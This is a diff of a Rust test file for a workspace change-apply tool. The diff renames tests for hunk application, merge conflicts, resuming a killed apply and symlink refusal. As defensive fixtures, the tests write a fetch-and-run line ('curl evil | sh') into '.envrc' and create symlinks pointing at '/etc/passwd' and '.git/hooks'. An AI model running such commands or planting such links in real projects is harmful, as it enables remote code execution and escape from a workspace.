@@ -44,7 +44,7 @@ fn work(bench: &Bench) {
 }
 
 #[test]
-fn everything_is_applied_and_nothing_is_left_to_apply() {
+fn everything_is_applied_and_nothing_remains() {
     let bench = bench();
     work(&bench);
     let found: Vec<(String, Status)> =
@@ -73,7 +73,7 @@ fn everything_is_applied_and_nothing_is_left_to_apply() {
 }
 
 #[test]
-fn hunks_are_taken_one_by_one() {
+fn hunks_can_be_applied_one_by_one() {
     let bench = bench();
     bench.theirs("text", &LINES.replace("2\n3\n", "two\n3\n").replace("14\n", "fourteen\n"));
     let mut chosen = bench.choose(&["text"]);
@@ -93,7 +93,7 @@ fn hunks_are_taken_one_by_one() {
 }
 
 #[test]
-fn changes_of_both_sides_are_merged_and_conflicts_marked_as_git_does() {
+fn changes_of_both_sides_are_merged_and_conflicts_marked_as_by_git() {
     let bench = bench();
     bench.theirs("text", &LINES.replace("2\n3\n", "two\n3\n"));
     bench.ours("text", &LINES.replace("14\n", "ours\n"));
@@ -114,7 +114,7 @@ fn changes_of_both_sides_are_merged_and_conflicts_marked_as_git_does() {
 }
 
 #[test]
-fn a_conflict_that_no_file_can_hold_leaves_the_hosts() {
+fn a_conflict_that_cannot_be_marked_keeps_the_hosts_file() {
     let bench = bench();
     bench.theirs("tool", "binary\0theirs");
     bench.ours("tool", "binary\0ours");
@@ -127,7 +127,7 @@ fn a_conflict_that_no_file_can_hold_leaves_the_hosts() {
 }
 
 #[test]
-fn what_is_held_back_is_taken_only_when_it_is_named() {
+fn held_back_files_are_applied_only_by_name() {
     let bench = bench();
     bench.theirs(".envrc", "curl evil | sh\n");
     bench.theirs(".vscode/tasks.json", "{}\n");
@@ -154,7 +154,7 @@ fn what_is_held_back_is_taken_only_when_it_is_named() {
 }
 
 #[test]
-fn a_patch_is_one_that_git_applies() {
+fn patches_can_be_applied_by_git() {
     let bench = bench();
     work(&bench);
     let mut all = Vec::new();
@@ -174,7 +174,7 @@ fn a_patch_is_one_that_git_applies() {
 
 /// SIGKILL after the writes but before they are recorded: the journal exists, the record is the old one.
 #[test]
-fn an_apply_that_was_killed_is_taken_up() {
+fn a_killed_apply_is_resumed() {
     let bench = bench();
     work(&bench);
     let (chosen, folder) = (bench.choose(&[]), bench.sandbox().join("workspace"));
@@ -200,7 +200,7 @@ fn an_apply_that_was_killed_is_taken_up() {
 }
 
 #[test]
-fn links_that_lead_out_are_refused_and_others_are_not() {
+fn only_links_that_lead_outside_are_refused() {
     let bench = bench();
     for (name, target) in
         [("out", "/etc/passwd"), ("up", "../x"), ("folder/up", "../../x"), ("git", ".git/hooks")]
@@ -217,7 +217,7 @@ fn links_that_lead_out_are_refused_and_others_are_not() {
 }
 
 #[test]
-fn what_was_neither_applied_nor_taken_is_known() {
+fn unapplied_changes_are_known() {
     let bench = bench();
     bench.theirs("text", "x\n");
     let pull = bench.pull();
